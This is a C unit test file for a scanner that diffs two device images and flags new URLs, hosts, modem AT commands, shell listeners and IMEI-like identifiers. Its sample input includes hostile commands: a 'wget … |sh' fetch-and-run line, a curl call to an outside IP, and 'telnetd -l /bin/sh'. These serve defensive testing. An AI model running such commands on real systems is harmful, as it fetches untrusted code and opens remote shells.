/* SPDX-License-Identifier: Apache-2.0 */
/* Texts out of bytes, the difference of two images, and the lines that come of it. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "images/token.h"

/* ---- texts ---- */

struct runs {
	char text[16][64];
	uint64_t offset[16];
	bool wide[16];
	unsigned n;
	uint64_t bytes;
};

static int
on_run(void *arg, struct view run, uint64_t offset, bool wide)
{
	struct runs *r = arg;
	assert_true(run.n <= TOKEN_RUN_MAX);
	r->bytes += run.n;
	if (r->n < 16) {
		snprintf(r->text[r->n], sizeof r->text[0], "%.*s", (int)(run.n < 63 ? run.n : 63), (const char *)run.p);
		r->offset[r->n] = offset;
		r->wide[r->n++] = wide;
	}
	return 0;
}

static struct runs
runs_of(struct view bytes)
{
	struct runs r = { 0 };
	struct source s;
	source_memory(&s, bytes);
	assert_int_equal(token_runs(&s, on_run, &r), 0);
	return r;
}
#define RUNS(literal) runs_of(view_of(literal, sizeof(literal) - 1))

static void
texts_in_bytes(void **state)
{
	(void)state;
	struct runs r = RUNS("\0\1abcdef\0short\0\tlonger text\nnext line");
	assert_int_equal(r.n, 3);
	assert_string_equal(r.text[0], "abcdef");
	assert_int_equal(r.offset[0], 2);
	assert_string_equal(r.text[1], "\tlonger text");
	assert_string_equal(r.text[2], "next line");
	r = RUNS("\xff" "e\0v\0i\0l\0.\0c\0o\0m\0\0\0tail\0x");
	assert_int_equal(r.n, 1);
	assert_true(r.wide[0]);
	assert_string_equal(r.text[0], "evil.com");
	assert_int_equal(r.offset[0], 1);
	/* The first character hangs on a byte before it; the last one on what follows. */
	r = RUNS("zz\0h\0t\0t\0p\0:\0\1\0");
	assert_int_equal(r.n, 1);
	assert_string_equal(r.text[0], "zhttp:");
	r = RUNS("a\0b\0c\0d\0\0e\0f\0g\0h\0i\0j\0");
	assert_int_equal(r.n, 1);
	assert_string_equal(r.text[0], "efghij");
	assert_int_equal(RUNS("").n, 0);
}

/* However long a line is, its pieces are all of it, and no token is cut. */
static void
long_lines_lose_nothing(void **state)
{
	(void)state;
	size_t n = 3 * SOURCE_CHUNK;
	char *text = malloc(n);
	assert_non_null(text);
	memset(text, 'x', n);
	for (size_t i = 100; i < n; i += 700)
		text[i] = ' ';
	memcpy(text + TOKEN_RUN_MAX - 10, " http://evil.example/long ", 26);
	struct source s;
	source_memory(&s, view_of(text, n));
	struct runs r = { 0 };
	assert_int_equal(token_runs(&s, on_run, &r), 0);
	assert_int_equal(r.bytes, n);
	struct token_set *t = token_set_new(NULL, NULL);
	assert_int_equal(token_set_scan(t, "x", &s), 0);
	assert_true(token_set_has(t, TOKEN_URL, view_str("http://evil.example/long")));
	token_set_free(t);
	memset(text, 'y', n); /* no gap at all */
	r = (struct runs){ 0 };
	assert_int_equal(token_runs(&s, on_run, &r), 0);
	assert_int_equal(r.bytes, n);
	free(text);
}

/* ---- difference ---- */

struct pair {
	struct token_set *old, *new;
	struct page *page;
};

static void
scan(struct token_set *t, const char *path, struct view bytes)
{
	struct source s;
	source_memory(&s, bytes);
	assert_int_equal(token_set_scan(t, path, &s), 0);
}

static struct pair
compare(struct view old, struct view new, const struct token_own *own)
{
	struct pair p = { .old = token_set_new(NULL, NULL), .page = page_new() };
	assert_non_null(p.old);
	p.new = token_set_new(p.old, own);
	assert_true(p.new && p.page);
	scan(p.old, "old/a", old);
	scan(p.new, "new/b", new);
	assert_int_equal(token_page(p.old, p.new, p.page), 0);
	return p;
}

static void
done(struct pair *p)
{
	token_set_free(p->new);
	token_set_free(p->old);
	page_free(p->page);
}

static const struct page_line *
line(const struct pair *p, enum finding_id id, const char *part)
{
	for (size_t i = 0; i < page_count(p->page); i++) {
		const struct page_line *l = page_at(p->page, i);
		if (l->id == id && (strstr(l->text, part) || strstr(l->evidence, part)))
			return l;
	}
	return NULL;
}

static void
moves_raise_nothing(void **state)
{
	(void)state;
	struct pair p = compare(view_str("http://a.example/x\nAT+CGSN\n+4930123456\n"),
	    view_str("padding that was not there\n+49 30 123456\nAT+CGSN\n<http://A.example/x>\n"), NULL);
	assert_int_equal(page_count(p.page), 0);
	assert_int_equal(token_set_count(p.new), 0);
	done(&p);
}

static void
what_is_new_has_its_place(void **state)
{
	(void)state;
	struct pair p = compare(view_str("docs http://a.example/x and AT+GMR and b.example.com\n"),
	    view_str("docs http://a.example/y\ncurl http://203.0.113.77/up\nsend AT+CGSN now; wget -O- xy.top|sh\ntelnetd -l /bin/sh\n"), NULL);
	const struct page_line *l = line(&p, FINDING_CHG_CONTACT_URL, "http://203.0.113.77/up");
	assert_non_null(l);
	assert_int_equal(l->block, PAGE_CONTACT);
	assert_int_equal(l->severity, FINDING_WARNING);
	assert_string_equal(l->path, "new/b");
	assert_int_equal(l->offset, 29);
	assert_string_equal(l->evidence, "curl http://203.0.113.77/up");
	l = line(&p, FINDING_CHG_CONTACT_URL, "http://a.example/y");
	assert_true(l && l->severity == FINDING_NOTICE);
	assert_non_null(line(&p, FINDING_CHG_CONTACT_ADDRESS, "203.0.113.77"));
	assert_non_null(line(&p, FINDING_CHG_CONTACT_HOST, "xy.top"));
	l = line(&p, FINDING_CHG_MODEM_AT, "AT+CGSN");
	assert_true(l && l->block == PAGE_MODEM && l->sign == PAGE_ADDED);
	l = line(&p, FINDING_CHG_SHELL, "|sh");
	assert_true(l && l->block == PAGE_RED);
	assert_non_null(line(&p, FINDING_CHG_LISTENER, "telnetd -l /bin/sh"));
	l = line(&p, FINDING_CHG_CONTACT_GONE, "2 contact points"); /* the other path and b.example.com */
	assert_true(l && l->sign == PAGE_GONE && strstr(l->evidence, "b.example.com"));
	assert_non_null(line(&p, FINDING_CHG_MODEM_GONE, "AT+GMR"));
	assert_int_equal(page_count(p.page), 9);
	done(&p);
}

/* A changed link to one place in many documents is a few lines and a number. */
static void
urls_of_one_host(void **state)
{
	(void)state;
	char text[4000] = "";
	for (unsigned i = 0; i < 40; i++)
		snprintf(text + strlen(text), sizeof text - strlen(text), "https://new.example.org/%02u#part\nhttps://a.example/%02u ", i, i);
	struct pair p = compare(view_str("http://a.example/x"), view_str(text), NULL);
	assert_non_null(line(&p, FINDING_CHG_CONTACT_URL, "URL https://new.example.org/05 (host new too)"));
	const struct page_line *l = line(&p, FINDING_CHG_CONTACT_URL, "34 more URLs of new.example.org (host new too)");
	assert_true(l && l->severity == FINDING_WARNING);
	l = line(&p, FINDING_CHG_CONTACT_URL, "34 more URLs of a.example (of a host");
	assert_true(l && l->severity == FINDING_NOTICE);
	assert_int_equal(page_count(p.page), 2 * 7 + 1); /* and the old one's own, gone */
	done(&p);
}

/* ---- identities ---- */

static const char *const imeis[8] = { "353982597919077", "354833788762322", "358601290404790", "356669725102737",
	"354646869589699", "353504925899134", "359441177151621", "350466109906957" };

enum { PLAIN_FILLED, PLAIN_LED, SWAPPED, MOBILE, PACKINGS };

static void
pack(const char *d, unsigned how, uint8_t out[8])
{
	for (unsigned i = 0; i < 8; i++) {
		unsigned a = (unsigned)(d[2 * i] - '0'), b = i < 7 ? (unsigned)(d[2 * i + 1] - '0') : 15;
		if (how == PLAIN_FILLED)
			out[i] = (uint8_t)(a << 4 | b);
		else if (how == SWAPPED)
			out[i] = (uint8_t)(b << 4 | a);
		else {
			unsigned first = i ? (unsigned)(d[2 * i - 1] - '0') : how == MOBILE ? 0xa : 0, next = (unsigned)(d[2 * i] - '0');
			out[i] = (uint8_t)(how == MOBILE ? next << 4 | first : first << 4 | next);
		}
	}
}

static void
tables_of_identities(void **state)
{
	(void)state;
	char text[400] = "";
	for (unsigned i = 0; i < 8; i++)
		snprintf(text + strlen(text), sizeof text - strlen(text), "%s;", imeis[i]);
	struct pair p = compare(view_str("nothing here"), view_str(text), NULL);
	const struct page_line *l = line(&p, FINDING_CHG_IDENTIFIERS, "8 of the shape of an IMEI in one place");
	assert_true(l && l->block == PAGE_IDENT && l->severity == FINDING_WARNING);
	done(&p);
	p = compare(view_str(text), view_str(imeis[5]), NULL);
	assert_int_equal(page_count(p.page), 0);
	done(&p);
	snprintf(text, sizeof text, "serial %s", imeis[0]);
	p = compare(view_str("nothing"), view_str(text), NULL);
	l = line(&p, FINDING_CHG_IDENTIFIERS, "1 of the shape of an IMEI, the first");
	assert_true(l && l->severity == FINDING_NOTICE);
	done(&p);

	for (unsigned how = 0; how < PACKINGS; how++) {
		for (unsigned stride = 8; stride <= 40; stride += 16) {
			uint8_t packed[400];
			memset(packed, 0xee, sizeof packed);
			for (unsigned i = 0; i < 8; i++)
				pack(imeis[i], how, packed + 13 + i * stride);
			p = compare(view_str("nothing"), view_of(packed, sizeof packed), NULL);
			l = line(&p, FINDING_CHG_IDENTIFIERS, "8 of the shape of an IMEI in one place, in packed decimals");
			assert_true(l && l->offset == 13);
			done(&p);
			/* Three of them, or four that are the same: chance. */
			memset(packed, 0xee, sizeof packed);
			for (unsigned i = 0; i < 8; i++)
				pack(imeis[i < 3 ? i : 2], how, packed + 13 + i * stride);
			p = compare(view_str("nothing"), view_of(packed, sizeof packed), NULL);
			assert_int_equal(page_count(p.page), 0);
			done(&p);
		}
	}
}

static int
by_bytes(const void *a, const void *b)
{
	return memcmp(a, b, DIGEST_SHA256_LEN);
}

/* A single one of the fleet's own is enough, however it is written. */
static void
the_own_fleet(void **state)
{
	(void)state;
	uint8_t own[3][DIGEST_SHA256_LEN], packed[64] = { 0 };
	struct token_own list = { (const uint8_t(*)[DIGEST_SHA256_LEN])own, 3 };
	for (unsigned i = 0; i < 3; i++)
		assert_int_equal(digest_sha256(view_str(imeis[i]), own[i]), 0);
	qsort(own, 3, sizeof own[0], by_bytes);
	struct pair p = compare(view_str("nothing"), view_str(imeis[1]), &list);
	assert_non_null(line(&p, FINDING_CHG_IDENTIFIERS_OWN, "the IMEI of a module of this fleet"));
	done(&p);
	for (unsigned how = 0; how < PACKINGS; how++) {
		pack(imeis[2], how, packed + 20);
		p = compare(view_str("nothing"), view_of(packed, sizeof packed), &list);
		const struct page_line *l = line(&p, FINDING_CHG_IDENTIFIERS_OWN, "the IMEI");
		assert_true(l && l->severity == FINDING_BLOCK && l->offset == 20);
		done(&p);
	}
	pack(imeis[4], SWAPPED, packed + 20);
	p = compare(view_str("nothing"), view_of(packed, sizeof packed), &list);
	assert_int_equal(page_count(p.page), 0);
	done(&p);
}

/* ---- limits ---- */

static void
what_finds_no_room_is_told(void **state)
{
	(void)state;
	size_t n = 0, cap = (TOKEN_SET_MAX + 10) * 12;
	char *text = malloc(cap);
	assert_non_null(text);
	for (unsigned i = 0; i < TOKEN_SET_MAX + 10; i++)
		n += (size_t)snprintf(text + n, cap - n, "a%x.com\n", i);
	struct pair p = compare(view_str("x.com y"), view_of(text, n), NULL);
	const struct page_line *l = line(&p, FINDING_CHG_INCOMPLETE, "10 were not compared");
	assert_true(l && l->block == PAGE_RED);
	assert_true(page_cut(p.page)); /* and nobody reads so many lines */
	done(&p);
	free(text);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(texts_in_bytes),
		cmocka_unit_test(long_lines_lose_nothing),
		cmocka_unit_test(moves_raise_nothing),
		cmocka_unit_test(what_is_new_has_its_place),
		cmocka_unit_test(urls_of_one_host),
		cmocka_unit_test(tables_of_identities),
		cmocka_unit_test(the_own_fleet),
		cmocka_unit_test(what_finds_no_room_is_told),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
